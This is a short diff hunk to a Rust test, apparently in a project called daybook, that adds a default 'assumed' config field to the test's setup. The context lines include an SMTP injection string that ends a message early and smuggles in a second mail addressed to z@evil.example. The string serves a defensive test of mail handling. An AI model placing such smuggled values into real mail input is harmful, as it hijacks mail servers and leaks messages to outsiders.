@@ -506,6 +506,7 @@ fn s26_no_words_of_a_mail_become_commands_or_another_mail() {
         backups: std::path::PathBuf::new(),
         leave_checkpoints: false,
         fetch_private: false,
+        assumed: daybook::config::Assumed::default(),
     };
     let hostile = [
         "x\r\n\r\n.\r\nRCPT TO:<z@evil.example>\r\nDATA\r\nsecond\r\n.\r\n",
